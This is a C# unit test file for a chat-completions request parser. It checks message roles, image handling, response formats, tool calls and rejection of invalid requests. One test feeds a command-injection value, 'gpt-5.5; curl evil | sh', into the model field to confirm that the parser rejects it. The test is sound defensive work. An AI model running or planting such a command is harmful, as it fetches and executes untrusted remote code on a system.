using System.Text.Json;
using OrleansCodex.Api.ChatCompletions;
using OrleansCodex.Api.Errors;
using OrleansCodex.Api.Json;
using OrleansCodex.Api.Tests.Turns;

namespace OrleansCodex.Api.Tests.ChatCompletions;

public sealed class ChatRequestParserTests
{
    private static ChatTurnInput Parse(string json) =>
        ChatRequestParser.Parse(JsonSerializer.Deserialize(json, OpenAiJsonContext.Default.ChatCompletionRequest)!, TurnPolicyTests.Policy());

    private static OpenAiException Fails(string json) => Assert.Throws<OpenAiException>(() => Parse(json));

    [Fact]
    public void Parse_SystemAndDeveloper_BecomeInstructionsAndTheRestInput()
    {
        var input = Parse("""
            {"model":"gpt-5.5","messages":[
              {"role":"system","content":"You are terse."},
              {"role":"developer","content":[{"type":"text","text":"Use metric units."}]},
              {"role":"user","content":"hi"},
              {"role":"assistant","content":"hello"},
              {"role":"user","content":[{"type":"text","text":"look"},{"type":"text","text":"closer"}]}
            ]}
            """);

        Assert.Equal("You are terse.\n\nUse metric units.", input.Instructions);
        Assert.Equal(["user", "assistant", "user"], input.Input.Select(m => m.Role));
        Assert.Equal("output_text", input.Input[1].Content[0].Type);
        Assert.Equal(["look", "closer"], input.Input[2].Content.Select(c => c.Text));
    }

    [Fact]
    public void Parse_RemoteImageUrlPart_Is400WhileRemoteImagesAreDisabled()
    {
        var error = Fails("""{"model":"gpt-5.5","messages":[{"role":"user","content":[{"type":"image_url","image_url":{"url":"https://x/y.png"}}]}]}""");

        Assert.Equal("messages", error.Param);
        Assert.Equal("remote_images_disabled", error.Code);
    }

    [Fact]
    public void Parse_DataUrlImagePart_IsKept()
    {
        var input = Parse("""{"model":"gpt-5.5","messages":[{"role":"user","content":[{"type":"text","text":"what?"},{"type":"image_url","image_url":{"url":"data:image/png;base64,iVBORw0KGgo="}}]}]}""");

        Assert.Equal("data:image/png;base64,iVBORw0KGgo=", input.Input[0].Content[1].ImageUrl);
    }

    [Fact]
    public void Parse_JsonSchemaResponseFormat_BecomesTheOutputFormat()
    {
        var input = Parse("""
            {"model":"gpt-5.5","messages":[{"role":"user","content":"hi"}],
             "response_format":{"type":"json_schema","json_schema":{"name":"answer","schema":{"type":"object","properties":{"n":{"type":"integer"}}}}}}
            """);

        Assert.Equal("answer", input.Controls.OutputFormat!.Name);
        Assert.False(input.Controls.OutputFormat.Strict);
    }

    [Fact]
    public void Parse_JsonSchemaResponseFormatWithoutItsSchema_Is400NamingIt()
    {
        var error = Fails("""{"model":"gpt-5.5","messages":[{"role":"user","content":"hi"}],"response_format":{"type":"json_schema","json_schema":{"name":"a"}}}""");

        Assert.Equal("response_format.json_schema.schema", error.Param);
    }

    [Fact]
    public void Parse_ToolMessageAndAssistantToolCalls_AreKeptAsText()
    {
        var input = Parse("""
            {"model":"gpt-5.5","messages":[
              {"role":"user","content":"weather?"},
              {"role":"assistant","content":null,"tool_calls":[{"id":"call_1","type":"function","function":{"name":"weather","arguments":"{\"city\":\"Oslo\"}"}}]},
              {"role":"tool","tool_call_id":"call_1","content":"rainy"}
            ]}
            """);

        Assert.Contains("weather(", input.Input[1].Text);
        Assert.Equal("user", input.Input[2].Role);
        Assert.Contains("call_1", input.Input[2].Text);
        Assert.Contains("rainy", input.Input[2].Text);
    }

    [Fact]
    public void Parse_EveryDocumentedField_IsAccepted()
    {
        var input = Parse("""
            {"model":"gpt-5.5","messages":[{"role":"user","content":"hi"}],"stream":true,"stream_options":{"include_usage":true},"n":1,
             "stop":["x"],"max_tokens":10,"max_completion_tokens":10,"temperature":0.2,"top_p":0.9,"reasoning_effort":"low",
             "response_format":{"type":"text"},"tools":[],"tool_choice":"none","parallel_tool_calls":false,"user":"u","metadata":{"k":"v"},
             "store":true,"seed":7,"prompt_cache_key":"p","logprobs":false,"frequency_penalty":0,"presence_penalty":0,"logit_bias":{},"service_tier":"auto"}
            """);

        Assert.True(input.Stream);
        Assert.True(input.IncludeUsage);
        Assert.Equal("low", input.Controls.ReasoningEffort);
    }

    [Fact]
    public void Parse_NAboveOne_Is400NamingN()
    {
        Assert.Equal("n", Fails("""{"model":"gpt-5.5","messages":[{"role":"user","content":"hi"}],"n":2}""").Param);
    }

    [Fact]
    public void Parse_UnknownPartType_Is400NamingThePart()
    {
        var error = Fails("""{"model":"gpt-5.5","messages":[{"role":"user","content":[{"type":"input_audio","input_audio":{}}]}]}""");

        Assert.Equal("messages[0].content[0].type", error.Param);
        Assert.Contains("input_audio", error.Message);
    }

    [Fact]
    public void Parse_UnknownRole_Is400NamingTheRole()
    {
        Assert.Equal("messages[0].role", Fails("""{"model":"gpt-5.5","messages":[{"role":"function","content":"x"}]}""").Param);
    }

    [Theory]
    [InlineData("""{"model":"gpt-5.5"}""")]
    [InlineData("""{"model":"gpt-5.5","messages":[]}""")]
    [InlineData("""{"model":"gpt-5.5","messages":[{"role":"system","content":"only rules"}]}""")]
    public void Parse_NoConversation_Is400NamingMessages(string json)
    {
        Assert.Equal("messages", Fails(json).Param);
    }

    [Fact]
    public void Parse_InjectionInModel_Is400NamingModel()
    {
        Assert.Equal("model", Fails("""{"model":"gpt-5.5; curl evil | sh","messages":[{"role":"user","content":"hi"}]}""").Param);
    }
}
